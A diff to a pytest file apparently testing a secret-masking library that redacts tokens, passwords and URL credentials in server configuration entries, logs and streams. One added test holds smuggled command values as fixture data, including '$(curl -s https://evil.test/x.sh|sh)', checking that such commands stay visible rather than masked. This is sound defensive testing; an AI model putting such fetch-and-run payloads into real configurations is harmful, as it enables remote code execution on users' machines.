@@ -1,5 +1,7 @@
 """The owner of what is secret (beyond/secrets/): which names are secret, which places of an entry, and the
 masking by value and by place, whole and streamed, each on an Inventory of the test's own."""
+import shlex
+
 import pytest
 
 from beyond.secrets import (Inventory, MaskedStream, add, is_secret_name, learn_entry, mask, masked_entry, places)
@@ -19,23 +21,46 @@ def test_a_name_of_a_path_a_name_or_another_word_is_none(name):
     assert not is_secret_name(name)
 
 
+def test_names_users_write_and_words_that_only_hold_a_keyword():
+    """PASS, PWD and PAT as words; a page's token, a count of tokens, a tokenizer, an address, the shell's PWD not."""
+    assert all(map(is_secret_name, ("DB_PASS", "MYSQL_PWD", "GH_PAT", "Proxy-Authorization", "APIKey")))
+    assert not any(map(is_secret_name, ("nextPageToken", "max_tokens", "tokenizer", "keyboard", "PWD",
+                                        "KEYCLOAK_URL", "authorization_endpoint", "SSH_AUTH_SOCK")))
+
+
 def test_an_entrys_secret_places():
-    """env and headers under secret names (the scheme word off), args after a secret flag or glued to it, and
-    every URL's password and secret-named query values; a ${VAR} stands as written."""
-    entry = {"command": "srv", "args": ["--api-key", "sk-1", "--token=abc", "--key-file", "/k", "--port", "80",
-                                        "https://u:pw@h/?token=t&x=1"],
+    """env and headers under secret names (the scheme word off), args after a secret flag; and in every string
+    what is secret by place (glued flags, `-e KEY=V`, one-argument flags, header lines, URL passwords, user
+    names and secret query or fragment values); a ${VAR} stands as written."""
+    entry = {"command": "srv", "args": ["--api-key", "sk-1", "--token=abc", "--key-file", "/k", "--port", "80", "-e",
+                                        "GH_TOKEN=ghp2", "--pat", "pat3", "--header", "Authorization: Bearer b4xyzabc",
+                                        "--opts=--password pw5", "https://u:pw6@h/?token=t7&x=1"],
              "env": {"GH_TOKEN": "g", "DB": "postgres://a:b@h/d", "HOME_DIR": "/x"},
-             "headers": {"Authorization": "Bearer ${T}", "X-Tenant": "acme"}, "url": "https://h/mcp?api_key=k"}
+             "headers": {"Authorization": "Bearer ${T}", "X-Tenant": "acme"},
+             "url": "https://user8@h/mcp;api_key=k9#access_token=a10"}
     assert [(place.where, place.value) for place in places(entry)] == [
         ("env GH_TOKEN", "g"), ("env DB (the URL's password)", "b"), ("header Authorization", "${T}"),
         ("args[1] (after --api-key)", "sk-1"), ("args[2] (after --token)", "abc"),
-        ("args[7] (the URL's password)", "pw"), ("args[7] (the URL's token)", "t"), ("url (the URL's api_key)", "k")]
+        ("args[8] (after GH_TOKEN)", "ghp2"), ("args[10] (after --pat)", "pat3"),
+        ("args[12] (after Authorization)", "b4xyzabc"), ("args[13] (after --password)", "pw5"),
+        ("args[14] (after token)", "t7"), ("args[14] (the URL's password)", "pw6"),
+        ("url (after api_key)", "k9"), ("url (after access_token)", "a10"), ("url (the URL's user name)", "user8")]
     shown = masked_entry(entry, keep=lambda value: value.startswith("${"))
-    assert shown["args"][:7] == ["--api-key", "[masked]", "--token=[masked]", "--key-file", "/k", "--port", "80"]
-    assert shown["args"][7] == "https://u:[masked]@h/?token=[masked]&x=1"
-    assert shown["url"] == "https://h/mcp?api_key=[masked]"
+    assert shown["args"][:9] == ["--api-key", "[masked]", "--token=[masked]", "--key-file", "/k", "--port", "80",
+                                 "-e", "GH_TOKEN=[masked]"]
+    assert shown["args"][12:] == ["Authorization: Bearer [masked]", "--opts=--password [masked]",
+                                  "https://u:[masked]@h/?token=[masked]&x=1"]
+    assert shown["url"] == "https://[masked]@h/mcp;api_key=[masked]#access_token=[masked]"
     assert shown["env"] == {"GH_TOKEN": "[masked]", "DB": "postgres://a:[masked]@h/d", "HOME_DIR": "/x"}
     assert shown["headers"] == {"Authorization": "Bearer ${T}", "X-Tenant": "acme"}
+
+
+def test_what_runs_is_never_hidden():
+    """A value at a secret place that is no credential's shape (a command, a sentence) is shown whole."""
+    entry = {"args": ["-c", "TOKEN=\"x$(curl -s https://evil.test/x.sh|sh)\" exec srv", "--token",
+                      "import os; os.system(1)"], "env": {"API_KEY": "$(curl evil.test)"}}
+    assert masked_entry(entry) == entry
+    assert mask(shlex.join(entry["args"])) == shlex.join(entry["args"])  # as the trust question shows it
 
 
 def test_by_value_a_long_secret_anywhere_a_short_one_as_a_token_a_shorter_one_never():
@@ -69,8 +94,8 @@ def test_by_value_as_json_and_a_url_write_it():
     ('{"password": "hunter2", "name": "n", "max_tokens": 5}',
      '{"password": "[REDACTED]", "name": "n", "max_tokens": 5}'),
     ('{\\"secret\\": \\"s3\\"}', '{\\"secret\\": \\"[REDACTED]\\"}'),
-    ("Authorization: Bearer a.b-c and Basic dXNlcjpwYXNz, but Basic usage", "Authorization: Bearer [REDACTED] and "
-     "Basic [REDACTED], but Basic usage"),
+    ("Authorization: Bearer a.b-cdefgh and Basic dXNlcjpwYXNz, but Basic usage and the Bearer of it",
+     "Authorization: Bearer [REDACTED] and Basic [REDACTED], but Basic usage and the Bearer of it"),
     ("proxy http://u:p@proxy:3128 up", "proxy http://u:[REDACTED]@proxy:3128 up"),
     ("TOKEN=${TOKEN} KEY=[REDACTED:X] API_KEY=ollama auth=true author=me", "TOKEN=${TOKEN} KEY=[REDACTED:X] "
      "API_KEY=ollama auth=true author=me"),
@@ -80,15 +105,17 @@ def test_by_place_at_any_length(text, masked):
 
 
 def test_the_process_inventory_only_grows_and_learns_a_starting_servers_secrets():
-    """What a server is started with: each literal at a secret place and what a ${VAR} brought into its env
-    or headers (a path aside); nothing takes a secret out."""
-    written = {"args": ["--api-key", "literal-key-0001", "--root", "${ROOT}"], "env": {"PLAIN": "${MINE}", "WHERE":
-               "${HOME}/x"}, "headers": {"X-Custom": "${CUSTOM}"}}
+    """What a server is started with: each value at a secret place, written out or from a ${VAR}, and what a
+    ${VAR} brought into a header; a ${VAR} in a plain setting brings configuration (NODE_ENV, a region, a path),
+    no secret. Nothing takes a secret out."""
+    written = {"args": ["--api-key", "literal-key-0001", "--root", "${ROOT}"], "env": {"NODE_ENV": "${MODE}",
+               "GH_TOKEN": "${GH}"}, "headers": {"X-Custom": "${CUSTOM}"}}
     expanded = {"args": ["--api-key", "literal-key-0001", "--root", "/home/u/proj"],
-                "env": {"PLAIN": "from-env-value-1", "WHERE": "/home/u/x"}, "headers": {"X-Custom": "custom-header-1"}}
+                "env": {"NODE_ENV": "production-eu-1", "GH_TOKEN": "from-env-value-1"},
+                "headers": {"X-Custom": "custom-header-1"}}
     learn_entry(written, expanded)
-    assert mask("literal-key-0001 from-env-value-1 custom-header-1 /home/u/x /home/u/proj") == \
-        "[REDACTED:api-key] [REDACTED:PLAIN] [REDACTED:X-Custom] /home/u/x /home/u/proj"
+    assert mask("literal-key-0001 from-env-value-1 custom-header-1 production-eu-1 /home/u/proj") == \
+        "[REDACTED:api-key] [REDACTED:GH_TOKEN] [REDACTED:X-Custom] production-eu-1 /home/u/proj"
     add("literal-key-0001", "another")
     assert mask("literal-key-0001") == "[REDACTED:api-key]"
     assert not hasattr(Inventory, "remove") and not hasattr(Inventory, "clear")
@@ -124,3 +151,32 @@ def test_a_stream_shows_plain_text_as_it_comes():
     assert stream.feed("Hello there, ") == "Hello there, "
     assert stream.feed("how are yo") == "how are "
     assert stream.feed("u?\n") == "you?\n"
+
+
+def test_what_another_party_chose_masks_no_words():
+    """A token or a registration's secret an authorization server chose is masked only when it looks like one
+    (a letter and a digit): "application/json" as a client secret hides nothing."""
+    inventory = Inventory({})
+    inventory.add("application/json", "client_secret", issued=True)
+    inventory.add("function", "access_token", rotating="a", issued=True)
+    inventory.add("tok3n-issued-0123", "access_token", rotating="a", issued=True)
+    assert inventory.mask("application/json function tok3n-issued-0123") == \
+        "application/json function [REDACTED:access_token]"
+
+
+def test_no_number_of_secrets_crowds_out_another():
+    """However many a folder's .env or an entry hands in, the next one is masked too (the sources are bounded,
+    the inventory is not)."""
+    inventory = Inventory({})
+    for n in range(5000):
+        inventory.add(f"filler-value-{n:05}", f"FILLER{n}_KEY")
+    inventory.add("ghp_the-users-own-token", "GITHUB_TOKEN")
+    assert inventory.mask("x ghp_the-users-own-token") == "x [REDACTED:GITHUB_TOKEN]"
+
+
+def test_a_text_cut_to_fit_shows_no_part_of_a_secret(monkeypatch):
+    """shorten(), fit() and squeeze() mask before they cut: a secret over the cut is masked whole."""
+    from beyond.text import fit, shorten, squeeze
+    monkeypatch.setenv("GH_TOKEN", "ghp_cut0123456789abcdef")
+    text = "x" * 70 + "ghp_cut0123456789abcdef" + "y" * 70
+    assert all("ghp_cut" not in cut for cut in (shorten(text, 80), fit(text, 80), squeeze(text, 150)))
